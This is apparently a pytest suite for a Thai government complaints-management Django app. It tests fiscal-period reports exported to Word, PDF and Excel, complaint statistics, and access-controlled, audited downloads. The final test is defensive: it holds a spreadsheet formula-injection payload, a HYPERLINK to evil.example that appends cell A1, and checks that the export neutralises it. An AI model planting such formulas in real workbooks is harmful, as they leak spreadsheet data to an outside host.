import datetime as dt
import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

from audit.models import AuditEvent
from complaints import documents
from complaints.models import Case, Channel, Rating
from complaints.services import case_answer, case_assign, case_dismiss
from org.models import Unit

pytestmark = pytest.mark.django_db


def pdf_text(data: bytes) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is not installed")
    return subprocess.run(["pdftotext", "-layout", "-", "-"], input=data, capture_output=True,
                          check=True).stdout.decode()


def test_quarters_follow_the_fiscal_year():
    q1, q2, q4 = documents.quarterly(2568, 1), documents.quarterly(2568, 2), documents.quarterly(2568, 4)
    assert (q1.start, q1.end) == (dt.date(2024, 10, 1), dt.date(2024, 12, 31))
    assert (q2.start, q2.end) == (dt.date(2025, 1, 1), dt.date(2025, 3, 31))
    assert (q4.start, q4.end) == (dt.date(2025, 7, 1), dt.date(2025, 9, 30))
    month = documents.monthly(2568, 2)
    assert (month.start, month.end) == (dt.date(2025, 2, 1), dt.date(2025, 2, 28))
    assert month.title.endswith("ประจำเดือนกุมภาพันธ์ พ.ศ. 2568")


@pytest.fixture
def month_of_cases(submit, officer):
    """Three cases this month: one answered in time, one dismissed, one still open."""
    answered, dismissed, waiting = submit().case, submit().case, submit(channel=Channel.CORRUPTION).case
    case_assign(actor=officer, case=answered, lead=Unit.objects.get(code="cpd-prov-13"))
    case_answer(actor=officer, case=answered, reply="ดำเนินการแก้ไขให้เรียบร้อยแล้ว")
    Rating.objects.create(case=answered, score=4)
    case_dismiss(actor=officer, case=dismissed, outcome="not_ours", reason="เป็นอำนาจของกรมตรวจบัญชีสหกรณ์")
    return answered, dismissed, waiting


def test_monthly_report_in_word_opens_with_the_memo_and_the_case_table(month_of_cases, officer):
    answered, _, waiting = month_of_cases
    today = timezone.localdate()
    spec = documents.monthly(today.year + 543, today.month)
    data, content_type, name = documents.build(spec, "docx", agency=answered.agency, user=officer)
    assert name.endswith(".docx") and content_type == documents.DOCX
    doc = Document(io.BytesIO(data))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "บันทึกข้อความ" in text and "อธิบดีกรมส่งเสริมสหกรณ์" in text and "จึงเรียนมาเพื่อโปรดทราบ" in text
    assert "มีเรื่องเข้าสู่ระบบ ๓ เรื่อง" in text  # the memo writes numbers in Thai digits
    rows = [[c.text for c in r.cells] for r in doc.tables[-1].rows]
    assert rows[0][0] == "เลขที่" and {r[0] for r in rows[1:]} >= {answered.number, waiting.number}
    assert any(r[0] == waiting.number and r[4] == "เรื่องแจ้งเบาะแส (ปกปิด)" for r in rows)
    assert any(r[0] == answered.number and r[8] == "ทันกำหนด" for r in rows)


def test_quarterly_report_as_pdf_and_excel(month_of_cases, officer):
    answered = month_of_cases[0]
    today = timezone.localdate()
    from core.thai import fiscal_quarter, fiscal_year

    spec = documents.quarterly(fiscal_year(today), fiscal_quarter(today))
    pdf, content_type, _ = documents.build(spec, "pdf", agency=answered.agency, user=officer)
    assert content_type == "application/pdf" and pdf.startswith(b"%PDF")
    text = pdf_text(pdf)
    assert "สรุปผลรายงานการจัดการเรื่องร้องเรียน" in text and answered.number in text
    xlsx, _, _ = documents.build(spec, "xlsx", agency=answered.agency, user=officer)
    workbook = load_workbook(io.BytesIO(xlsx))
    assert workbook.sheetnames[0] == "สรุปผล"
    assert "รายการเรื่อง" in workbook.sheetnames and "รายเดือน" in workbook.sheetnames
    summary = {row[0]: row[1] for row in workbook["สรุปผล"].iter_rows(min_row=5, values_only=True)}
    # Thai digits, the agency's default for its documents.
    assert summary["เรื่องที่รับในช่วงเวลา"] == "๓" and summary["แจ้งผลแก่ผู้ร้องแล้ว (ในช่วงเวลา)"] == "๒"
    dates = [row[1] for row in workbook["รายการเรื่อง"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(d, dt.datetime) for d in dates)
    assert "07041E]" in workbook["รายการเรื่อง"]["B2"].number_format  # shown in B.E.
    memo, _, _ = documents.build(spec, "memo.pdf", agency=answered.agency, user=officer)
    assert "บันทึกข้อความ" in pdf_text(memo)


def test_ita_statistics_count_types_channels_outcomes_and_time(month_of_cases):
    from complaints.selectors import ita_statistics
    from core.thai import fiscal_year

    answered = month_of_cases[0]
    stats = ita_statistics(agency=answered.agency, fiscal_year=fiscal_year(timezone.localdate()))
    assert stats.received == 3
    assert stats.by_channel == {"ร้องเรียนการให้บริการ": 2, "แจ้งเบาะแสการทุจริตและประพฤติมิชอบ": 1}
    assert stats.by_status == {"แจ้งผลแล้ว": 1, "รับเรื่องแล้ว": 1, "ไม่อยู่ในอำนาจหน้าที่": 1}
    assert stats.replied == 2 and stats.replied_in_time == 2 and stats.in_time_percent == 100
    assert stats.days_to_reply_mean == 0 and stats.open_now == 2
    assert stats.satisfaction.responses == 1 and stats.satisfaction.percent == 80


def test_satisfaction_selector_for_the_plan_indicators(submit):
    from complaints.selectors import satisfaction, satisfaction_percent

    case = submit().case
    for score in (5, 4, 2):
        Rating.objects.create(case=case, cycle=score, score=score)
    today = timezone.localdate()
    result = satisfaction(start=today, end=today)
    assert result.responses == 3 and str(result.average) == "3.67" and str(result.percent) == "73.40"
    assert str(result.satisfied_share) == "66.67"
    assert satisfaction_percent(start=today - dt.timedelta(days=30), end=today - dt.timedelta(days=1)) is None


def test_report_downloads_are_scoped_and_audited(client, month_of_cases, officer, handler, reporter):
    today = timezone.localdate()
    url = reverse("complaints:report_download", args=["monthly", "xlsx"])
    query = {"year": today.year + 543, "month": today.month}
    client.force_login(reporter)
    assert client.get(url, query).status_code == 403
    client.force_login(officer)
    response = client.get(url, query)
    assert response.status_code == 200 and response["Content-Disposition"].endswith('.xlsx"')
    assert AuditEvent.objects.filter(action="complaint.report_export").count() == 1
    assert client.get(reverse("complaints:reports")).status_code == 200
    assert client.get(url, {"year": "x"}).status_code == 404
    assert Case.objects.count() == 3


def test_a_complaint_subject_that_looks_like_a_formula_is_text_in_the_monthly_workbook(submit, officer):
    subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ดูเรื่องร้องเรียน\")"
    case = submit(subject=subject).case
    Unit.objects.filter(pk=case.agency_id).update(thai_digits=False)  # the cell holds the subject as typed
    today = timezone.localdate()
    xlsx, _, _ = documents.build(documents.monthly(today.year + 543, today.month), "xlsx", agency=case.agency,
                                 user=officer)
    cells = [c for ws in load_workbook(io.BytesIO(xlsx)).worksheets for r in ws.iter_rows() for c in r
             if c.value == subject]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
